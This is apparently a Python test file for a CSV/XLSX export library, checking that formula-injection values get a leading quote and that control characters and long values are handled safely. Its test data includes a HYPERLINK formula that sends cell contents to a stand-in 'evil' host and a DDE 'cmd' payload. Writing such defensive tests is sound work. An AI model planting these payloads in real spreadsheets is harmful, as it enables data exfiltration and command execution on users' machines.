"""Exports and error reports: formula injection neutralised, hostile values cannot break the file."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pytest
from leadloop_csv_sftp import Reject, open_table, write_error_report, write_table
from leadloop_csv_sftp.export import neutralise

HOSTILE = ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+49 30 1234", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_get_a_quote(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Anna", "", "a=b", "'already quoted", "1+1"])
def test_harmless_values_are_untouched(value: str) -> None:
    assert neutralise(value) == value


def test_csv_export_is_neutralised_utf8_with_bom() -> None:
    out = io.BytesIO()
    n = write_table(["name", "note", "count"], [["Jürgen", HOSTILE[0], 3], ["=cmd|'/C calc'!A0", None, -5]], out)
    assert n == 2
    raw = out.getvalue()
    assert raw.startswith(b"\xef\xbb\xbfname,note,count\r\n")
    table = open_table(io.BytesIO(raw), "export.csv")
    assert list(table) == [
        (2, ["Jürgen", "'" + HOSTILE[0], "3"]),
        (3, ["'=cmd|'/C calc'!A0", "", "-5"]),  # numbers are not formulas
    ]


def test_xlsx_export_has_no_formula_cells_and_survives_control_characters(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    write_table(["name", "note", "count"], [[HOSTILE[0], "bell\x07 and nul\x00 and \udcff", 7]], path, "xlsx")
    sheet = openpyxl.load_workbook(path).active
    name, note, count = (cell for cell in sheet[2])
    assert name.data_type == "s" and name.value == "'" + HOSTILE[0]
    assert note.value == "bell\ufffd and nul\ufffd and \ufffd"
    assert count.value == 7 and count.data_type == "n"


def test_error_report_csv_has_the_four_columns_and_cuts_long_values(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv.errors.csv"
    rows = [
        Reject(17, "short_row", "the row has 2 cells, the header has 24", value="=" + "x" * 5000),
        {"row": 18, "field": "email", "reason": "not an e-mail address", "value": "@nope"},
        {"row": 19, "field": "country", "reason": "unknown country", "value": None},
    ]
    assert write_error_report(rows, path) == 3
    table = open_table(path)
    assert table.headers == ["row", "field", "reason", "value"]
    lines = list(table)
    assert lines[0][1][:3] == ["17", "", "the row has 2 cells, the header has 24"]
    assert lines[0][1][3].startswith("'=xxx") and lines[0][1][3].endswith("... [4001 more characters]")
    assert len(lines[0][1][3]) < 1100
    assert lines[1][1] == ["18", "email", "not an e-mail address", "'@nope"]
    assert lines[2][1] == ["19", "country", "unknown country", ""]


def test_error_report_xlsx(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv.errors.xlsx"
    write_error_report([{"row": 5, "field": "email", "reason": "bad", "value": "+1 555"}], path, "xlsx")
    sheet = openpyxl.load_workbook(path).active
    assert sheet.title == "errors"
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["row", "field", "reason", "value"],
        [5, "email", "bad", "'+1 555"],
    ]


def test_a_stream_stays_open_and_an_unknown_format_writes_nothing(tmp_path: Path) -> None:
    out = io.BytesIO()
    write_table(["a"], [["1"]], out)
    assert not out.closed
    with pytest.raises(ValueError, match="unknown format"):
        write_table(["a"], [], tmp_path / "x.ods", "ods")  # type: ignore[arg-type]
    assert not (tmp_path / "x.ods").exists()
